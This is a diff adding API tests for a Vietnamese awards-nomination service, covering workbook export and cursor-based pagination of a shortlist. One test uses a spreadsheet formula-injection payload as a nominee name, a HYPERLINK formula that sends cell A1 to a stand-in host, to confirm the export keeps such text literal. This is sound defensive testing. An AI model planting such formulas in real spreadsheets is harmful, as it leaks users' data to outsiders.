@@ -4,6 +4,7 @@ the ranked shortlist, decisions (single and bulk), finalising and the workbook."
 from __future__ import annotations
 
 import io
+from urllib.parse import urlencode
 
 import pytest
 
@@ -244,3 +245,123 @@ def test_the_shortlist_as_a_workbook(api, world):
     final = [[c.value for c in row] for row in book["Danh sách khen thưởng"].iter_rows()]
     assert final[0][0] == "DANH SÁCH KHEN THƯỞNG (DỰ THẢO)"
     assert [r[1] for r in final if r[0] == 1] == ["Công an tỉnh Nghệ An"]  # only approved ones
+
+
+def test_defect_2_unit_supplied_text_is_never_a_formula_in_the_workbook(api, world):
+    """A nominee named like a formula (or any text a spreadsheet would evaluate) is shown as written."""
+    from openpyxl import load_workbook
+
+    t, cid, admin = world["tokens"], world["conference"], world["admin"]
+    name = '=HYPERLINK("http://x/?d="&A1,"click")'
+    position = "@SUM(1+1) Đại tá"
+    achievements = "=1+1 Hoàn thành xuất sắc nhiệm vụ."  # (the API strips leading tabs and line breaks)
+    note = "=2*3"
+    person = nominate(api, t["ca-nghe-an"], "ca-nghe-an", cid, kind="individual", name=name, position=position,
+                      achievements=achievements)
+    assert person.status_code == 201, person.body
+    approved = api.post(f"/v1/nominations/{person.data['id']}/decision", token=admin,
+                        body={"decision": "approve", "note": note}, headers={"If-Match": person.headers["ETag"]})
+    assert approved.status_code == 200, approved.body
+    team = nominate(api, t["ca-ha-tinh"], "ca-ha-tinh", cid, name="+84 Đội phản ứng nhanh",
+                    achievements="-5 ca mắc mới sau một tuần.")
+    assert team.status_code == 201, team.body
+    resp = api.get(f"/v1/conferences/{cid}/shortlist", token=admin, headers={"Accept": XLSX})
+    assert resp.status_code == 200 and resp.headers["Content-Type"] == XLSX
+    book = load_workbook(io.BytesIO(resp.body))
+
+    ranked = {c.value: c for row in book["Xếp hạng"].iter_rows(min_row=4) for c in row if isinstance(c.value, str)}
+    for text in (name, position, note, "+84 Đội phản ứng nhanh"):
+        assert text in ranked, (text, sorted(ranked))
+        assert ranked[text].data_type == "s"
+    final = {c.value: c for row in book["Danh sách khen thưởng"].iter_rows() for c in row if isinstance(c.value, str)}
+    for text in (name, position, achievements):
+        assert text in final, (text, sorted(final))
+        assert final[text].data_type == "s"
+    for sheet in book.worksheets:  # nothing anywhere is a formula
+        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    # Excel keeps the text literal even when someone edits the cell (the quote prefix)
+    assert ranked[name].quotePrefix and final[name].quotePrefix and final[achievements].quotePrefix
+
+
+def _achievements(i: int, size: int = 20_000) -> str:
+    sentence = "Đơn vị đã hoàn thành xuất sắc nhiệm vụ phòng, chống dịch COVID-19, bảo đảm an ninh trật tự. "
+    return (f"Thành tích số {i}: " + sentence * (size // len(sentence) + 1))[:size - 1] + "."
+
+
+def _all_pages(api, path, token, limit=None):
+    """Follow `next` from the first page; every page as it came."""
+    pages, cursor = [], None
+    while True:
+        query = urlencode({k: v for k, v in (("limit", limit), ("cursor", cursor)) if v})
+        resp = api.get(f"{path}?{query}" if query else path, token=token)
+        assert resp.status_code == 200, resp.body[:300]
+        pages.append(resp)
+        cursor = resp.data["next"]
+        if cursor is None:
+            return pages
+        assert len(pages) < 100, "next never ends"
+
+
+def test_defect_8_the_shortlist_comes_in_pages_of_short_rows(api, world):
+    """260 nominations of 20,000 characters each were one 7 MB body, over Lambda's 6 MB response limit."""
+    t, cid, admin = world["tokens"], world["conference"], world["admin"]
+    forms = ("co-thi-dua-bo-cong-an", "bang-khen-bo-truong", "giay-khen")  # in order of precedence
+    units = ("ca-nghe-an", "ca-ha-tinh", "ca-da-nang", "bv-19-8", "bv-199")
+    ids = set()
+    for i in range(260):
+        unit = units[i % len(units)]
+        created = nominate(api, t[unit], unit, cid, name=f"Đội công tác số {i:03d}", award_form=forms[i % 3],
+                           achievements=_achievements(i))
+        assert created.status_code == 201, created.body
+        ids.add(created.data["id"])
+    per_form = {form: sum(1 for i in range(260) if forms[i % 3] == form) for form in forms}
+    path = f"/v1/conferences/{cid}/shortlist"
+
+    orders = []
+    for limit in (None, 100, 7):
+        pages = _all_pages(api, path, admin, limit)
+        assert len(pages) == -(-260 // (limit or 50))
+        for resp in pages:
+            assert len(resp.body) < 1_000_000
+            assert len(resp.data["items"]) == (limit or 50) or resp is pages[-1]
+            # the whole conference's quota summary and state on every page
+            assert resp.data["finalised_at"] is None
+            assert {q["award_form"]: q["nominated"] for q in resp.data["quotas"]} == per_form
+        rows = [row for resp in pages for row in resp.data["items"]]
+        assert len(rows) == 260 and {r["nomination"]["id"] for r in rows} == ids  # all, exactly once
+        # in rank order: the forms by precedence, each ranked 1, 2, 3 … without a gap
+        assert [r["nomination"]["award_form"] for r in rows] == sorted((r["nomination"]["award_form"] for r in rows),
+                                                                      key=forms.index)
+        for form in forms:
+            assert [r["rank"] for r in rows if r["nomination"]["award_form"] == form] == list(range(1, per_form[form] + 1))
+        orders.append([r["nomination"]["id"] for r in rows])
+    assert orders[0] == orders[1] == orders[2]  # the same ranking whatever the page size
+
+    # rows are short: an excerpt cut at a word, and the full length; the full text is one GET away
+    row = rows[0]
+    excerpt, full_length = row["nomination"]["achievements"], row["nomination"]["achievements_length"]
+    assert full_length == 20_000 and len(excerpt) <= 300 and excerpt.endswith("…")
+    full = api.get(f"/v1/nominations/{row['nomination']['id']}", token=admin).data["achievements"]
+    assert len(full) == 20_000 and full.startswith(excerpt[:-1]) and full[len(excerpt) - 1] in " ,.;:"
+
+    # the workbook keeps every row, in the same order
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(api.get(path, token=admin, headers={"Accept": XLSX}).body))
+    assert [r[4].value for r in book["Xếp hạng"].iter_rows(min_row=4)] == [r["nomination"]["name"] for r in rows]
+
+    # a cursor of another conference or another listing, or one we never issued, is refused
+    other = api.post("/v1/conferences", token=admin, body={
+        "title": "Hội nghị tổng kết", "date": "2021-12-20", "periods": ["2021-08"],
+        "signer": {"title": "CHÁNH VĂN PHÒNG", "name": "Nguyễn Văn A"}}).data["id"]
+    for i in range(2):
+        assert nominate(api, t["ca-nghe-an"], "ca-nghe-an", other, name=f"Đội {i}").status_code == 201
+    foreign = api.get(f"/v1/conferences/{other}/shortlist?limit=1", token=admin).data["next"]
+    mine = api.get(f"{path}?limit=1", token=admin).data["next"]
+    units_cursor = api.get("/v1/units?limit=1", token=admin).data["next"]
+    assert foreign and mine and units_cursor
+    for bad in (foreign, units_cursor, "garbage", "bm9wZQ", mine[:-2], mine + "x", "%E2%80%AE", "A" * 5000):
+        resp = api.get(f"{path}?cursor={bad}", token=admin)
+        assert resp.status_code == 422 and resp.data["errors"][0]["field"] == "cursor", (bad, resp.body[:300])
+    assert api.get(f"/v1/conferences/{other}/shortlist?cursor={mine}", token=admin).status_code == 422
+    assert api.get(f"{path}?limit=0", token=admin).status_code == 422
